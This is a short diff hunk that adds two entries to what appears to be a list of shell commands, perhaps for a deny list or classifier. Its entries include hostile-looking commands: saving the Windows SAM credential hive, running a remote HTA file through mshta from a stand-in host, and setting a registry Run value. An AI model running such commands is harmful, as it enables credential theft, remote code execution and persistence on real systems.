@@ -56,6 +56,8 @@ Set-ItemProperty -Path HKLM:\Software\App -Name Run -Value 1
 reg save HKLM\SAM sam.hive
 ssh-copy-id me@host
 mshta http://x.example.net/x.hta
+tc qdisc add dev eth0 root netem loss 50%
+npm token create
 visudo
 hg purge
 hg update -C
